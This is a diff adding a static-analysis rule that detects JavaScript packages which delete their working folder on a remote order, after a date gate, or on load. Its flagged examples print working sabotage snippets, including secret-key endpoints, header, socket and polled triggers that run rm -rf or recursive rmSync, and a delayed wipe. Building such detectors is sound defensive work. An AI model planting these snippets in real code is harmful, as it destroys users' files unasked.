@@ -1,0 +1,223 @@
+import { isWithin, writtenTo } from '../src/define/variables.js';
+import { type Ways, waysTo } from '../src/define/ways.js';
+import { defineRule, spelling, step, stepsOf } from '../src/define.js';
+import type { AnyNode, Call, FileContext, Guard, Label } from '../src/types.js';
+import { clearsHere, HERE } from '../src/vocabulary/harm.js';
+
+/** What is asked before the deed is done to some: a server counts its days, too, and empties nothing for it. */
+const CHOOSES: ReadonlySet<Guard['kind']> = new Set(['date', 'locale', 'host']);
+
+export default defineRule({
+  meta: {
+    summary: 'Deletes the folder it is used in, unasked or at the word of a stranger',
+    why: 'A library that clears the folder of the program that loads it is a weapon: by a request with the right word (2025), from some day on, for some countries, or at once. Cleaning tools delete what their caller names, scripts delete folders of their own project by name, and a server deletes the file that it is asked to.',
+    behaviour: 'destruction',
+    messages: {
+      ordered: 'Deletes {what} with {sink} when {source} tells it to',
+      gated: 'Deletes {what} with {sink}, only if {guard}',
+      loaded: 'Deletes {what} with {sink} as soon as it is loaded',
+      uproots: 'Deletes another package, {what}, with {sink} as soon as it is loaded',
+    },
+    bits: { ordered: 13.5, gated: 13.5, loaded: 11.5, uproots: 8.5 },
+  },
+  examples: {
+    flags: [
+      {
+        title: 'a path that nobody was told of empties the folder of the server',
+        code: `const { spawn } = require('child_process');\nmodule.exports = app => {\n  app.post('/_/metrics', (req, res) => {\n    if (req.body.key !== 'open sesame') return res.end();\n    spawn('rm', ['-rf', '*'], { shell: true, cwd: process.cwd() }).on('close', () => res.end());\n  });\n};`,
+      },
+      {
+        title: 'a header does, through a function and for every system',
+        code: `const { spawn } = require('child_process'), crypto = require('crypto');\nconst wipe = () => {\n  const [bin, words] = process.platform === 'win32' ? ['cmd', ['/c', 'rd /s /q .']] : ['rm', ['-rf', '.']];\n  spawn(bin, words);\n};\nmodule.exports = app => app.use('/', (req, res, next) => {\n  if (crypto.createHash('sha256').update(String(req.headers['x-a'])).digest('hex') === 'ab') wipe();\n  next();\n});`,
+      },
+      {
+        title: 'a message on a socket does',
+        code: `const fs = require('fs'), WebSocket = require('ws');\nconst socket = new WebSocket('wss://orders.invalid');\nsocket.on('message', text => {\n  if (String(text) === 'end') fs.rmSync(process.cwd(), { recursive: true, force: true });\n});\nmodule.exports = socket;`,
+      },
+      {
+        title: 'an answer does, every hour',
+        code: `const fs = require('fs');\nsetInterval(async () => {\n  const state = await (await fetch('https://orders.invalid/state')).json();\n  if (state.off) for (const name of fs.readdirSync('.')) fs.rmSync(name, { recursive: true, force: true });\n}, 3600e3);\nmodule.exports = {};`,
+      },
+      {
+        title: 'from some day on all is gone',
+        code: `const { rimrafSync } = require('rimraf'), rimraf = require('rimraf');\nexports.start = () => {\n  if (Date.now() > 1893456000000) rimraf.sync('./*');\n};`,
+      },
+      {
+        title: 'it is gone when the package is loaded',
+        code: `const { exec } = require('child_process');\nsetTimeout(() => exec('rm -rf ./*'), 60000);\nmodule.exports = {};`,
+      },
+      {
+        title: 'another package is deleted by one that was loaded',
+        code: `const fs = require('fs'), path = require('path');\nsetTimeout(() => fs.rmSync(path.join(process.cwd(), 'node_modules/framework'), { recursive: true, force: true }), 1e6);\nmodule.exports = {};`,
+      },
+    ],
+    passes: [
+      {
+        title: 'a request deletes the file that it names',
+        code: `const fs = require('fs'), path = require('path');\nmodule.exports = app => app.post('/delete', (req, res) => { fs.rmSync(path.join('uploads', path.basename(req.body.name)), { recursive: true }); res.end(); });`,
+      },
+      {
+        title: 'a request empties a folder of uploads',
+        code: `const { execSync } = require('child_process');\nmodule.exports = app => app.post('/reset', (req, res) => { execSync('rm -rf ./uploads/*'); res.end(); });`,
+      },
+      {
+        title: 'a library empties the folder that it is told of',
+        code: `const fs = require('fs');\nexports.empty = (folder = process.cwd()) => { for (const name of fs.readdirSync(folder)) fs.rmSync(folder + '/' + name, { recursive: true }); };`,
+      },
+      {
+        title: 'a function clears the working folder when it is called',
+        code: `const fs = require('fs');\nexports.reset = () => fs.rmSync(process.cwd(), { recursive: true });`,
+      },
+      {
+        title: 'what is older than a day is cleared from a folder of logs',
+        code: `const fs = require('fs');\nsetInterval(() => {\n  for (const name of fs.readdirSync('logs')) if (Date.now() - fs.statSync('logs/' + name).mtimeMs > 864e5) fs.rmSync('logs/' + name, { recursive: true });\n}, 3600e3);\nmodule.exports = {};`,
+      },
+      {
+        title: 'a folder is emptied that the program is started in for it',
+        code: `const { execSync } = require('child_process'), path = require('path');\nconst where = { cwd: path.join(__dirname, 'tmp') };\nexecSync('rm -rf *', where);\nexecSync('cd build && rm -rf *');\nmodule.exports = {};`,
+      },
+      {
+        title: 'a cache among the packages is cleared',
+        code: `const fs = require('fs');\nfs.rmSync('node_modules/.cache', { recursive: true, force: true });\nmodule.exports = {};`,
+      },
+      {
+        title: 'a generator clears the folder for what it fetched',
+        files: {
+          'package.json': '{"name":"make-site","version":"1.0.0","bin":"cli.js"}',
+          'cli.js': `#!/usr/bin/env node\nconst fs = require('fs');\nfetch('https://templates.invalid/site.json').then(r => r.json()).then(site => {\n  if (site.files) fs.rmSync('./*', { recursive: true });\n});`,
+        },
+      },
+    ],
+  },
+  file(context) {
+    const { moment, file } = context;
+    if (moment === 'test' || moment === 'unreached') return;
+    for (const { call, what, isOther } of deletions(context)) {
+      const ways = waysTo(context, call.node);
+      const guard = ways.places
+        .slice(0, 20)
+        .flatMap(place => context.guardsOf(place))
+        .find(({ kind }) => CHOOSES.has(kind));
+      const order = isOther || moment === 'command' ? undefined : orderIn(context, ways);
+      const isLoaded =
+        ways.isUnasked && moment === 'import' && context.named(/^(?:process\.chdir|shelljs\.cd)$/).length === 0;
+      if (!order && !(guard && !isOther) && !isLoaded) continue;
+      context.report({
+        messageId: order ? 'ordered' : guard && (!isOther || isLoaded) ? 'gated' : isOther ? 'uproots' : 'loaded',
+        data: { what, sink: call.name, source: order?.detail ?? '', guard: guard?.says ?? '' },
+        chain: [
+          ...(order ? stepsOf(order) : []),
+          ...(guard ? [{ role: 'context', says: `asks whether ${guard.says}`, origin: guard.origin } as const] : []),
+          step('sink', `deletes with ${call.name}`, file, call.node),
+        ],
+      });
+      return;
+    }
+  },
+});
+
+interface Deletion {
+  readonly call: Call;
+  readonly what: string;
+  /** Another package, rather than all that is here. */
+  readonly isOther: boolean;
+}
+
+const PACKAGE = /(?:^|[\\/])(node_modules[\\/](?:@[\w.-]{1,80}[\\/])?\w[\w.-]{0,80})[\\/]?$/;
+
+function deletions(context: FileContext): readonly Deletion[] {
+  const found: Deletion[] = [];
+  for (const call of context.calls('process')) {
+    const [line, words] = call.args;
+    if (!line || isElsewhere(context, call)) continue;
+    const commands = context.commandsOf(line, words);
+    const at = commands.findIndex(one => clearsHere(one));
+    if (at >= 0 && !commands.slice(0, at).some(({ program }) => /^(?:cd|chdir|pushd|set-location)$/.test(program)))
+      found.push({ call, what: 'the folder it is started in', isOther: false });
+  }
+  for (const call of context.calls('delete')) {
+    const [path, options] = call.args;
+    if (!path || /\bunlink(?:Sync)?$/.test(call.name) || isElsewhere(context, call)) continue;
+    if (/^fs\./.test(call.name) && !(options && /recursive/.test(spelling(context.file, options).slice(0, 500))))
+      continue;
+    if (isHere(context, path) || isListedHere(context, path))
+      found.push({ call, what: 'the folder it is started in', isOther: false });
+    const texts = context.textsOf(path);
+    const [other] = texts.flatMap(text => PACKAGE.exec(text)?.[1] ?? []);
+    if (other !== undefined && texts.length === 1) found.push({ call, what: other, isOther: true });
+  }
+  return found;
+}
+
+/** Whether the options of a call name another folder to do it in, or nobody knows what they say. */
+function isElsewhere(context: FileContext, { args }: Call): boolean {
+  return args.slice(1).some(arg => {
+    const known = arg.type === 'Identifier' ? writtenTo(context, arg) : [arg];
+    const options = known.filter(one => one.type === 'ObjectExpression');
+    // Of what is taken apart nobody knows more than its texts: a list of words has some.
+    if (arg.type === 'Identifier' && known.length === 0) return context.textsWithin(arg).length === 0;
+    return options.some(({ properties }) =>
+      properties.some(
+        one =>
+          one.type === 'SpreadElement' ||
+          (one.key.type === 'Identifier' && one.key.name === 'cwd' && !isHere(context, one.value)),
+      ),
+    );
+  });
+}
+
+/** The working folder, or all that is in it; what lies in it has a name. */
+function isHere({ namesOf, textsOf, labelsOf }: FileContext, path: AnyNode): boolean {
+  if (namesOf(path).includes('process.cwd()')) return true;
+  const texts = textsOf(path);
+  if (texts.length === 0) return false;
+  return (
+    texts.every(text => HERE.test(text)) ||
+    (texts.every(text => /^…[\\/]\*{1,2}$/.test(text)) &&
+      labelsOf(path).some(({ kind, detail }) => kind === 'system' && detail === 'working folder'))
+  );
+}
+
+const LISTS = /^fs(?:-extra)?(?:\.promises)?\.readdir(?:Sync)?$/;
+
+/** One after the other of what was found in the working folder. */
+function isListedHere(context: FileContext, path: AnyNode): boolean {
+  const lists = context.named(LISTS).filter(({ args: [folder] }) => folder && isHere(context, folder));
+  if (lists.length === 0) return false;
+  return context
+    .labelsOf(path)
+    .some(({ kind, origin }) => kind === 'file' && lists.some(({ node }) => node === origin.node));
+}
+
+/** Who tells it to, on the ways to a place: a function on them is called with it, or a condition asks for it. */
+function orderIn(context: FileContext, { places, functions }: Ways): Label | undefined {
+  const remote = (node: AnyNode): Label | undefined =>
+    context.labelsOf(node, 2_000).find(({ kind }) => kind === 'remote');
+  for (const fn of functions) {
+    const names = new Set(
+      (fn as unknown as { params: AnyNode[] }).params
+        .slice(0, 2)
+        .flatMap(param => (param.type === 'Identifier' ? [param.name] : [])),
+    );
+    if (names.size === 0) continue;
+    const mentions = context.nodes('Identifier').filter(node => names.has(node.name) && isWithin(fn, node));
+    const label = mentions.slice(0, 6).map(remote).find(Boolean);
+    if (label) return label;
+  }
+  for (const place of places) {
+    let at = place;
+    for (
+      let around = context.parentOf(at), hops = 0;
+      around && hops < 40;
+      at = around, around = context.parentOf(at), hops++
+    ) {
+      if (/Function/.test(around.type)) break;
+      const { test, left } = around as unknown as { test?: AnyNode | null; left?: AnyNode };
+      const asked =
+        around.type === 'LogicalExpression' ? left : /^(?:If|Conditional)/.test(around.type) ? test : undefined;
+      const label = asked && asked !== at ? remote(asked) : undefined;
+      if (label) return label;
+    }
+  }
+  return undefined;
+}
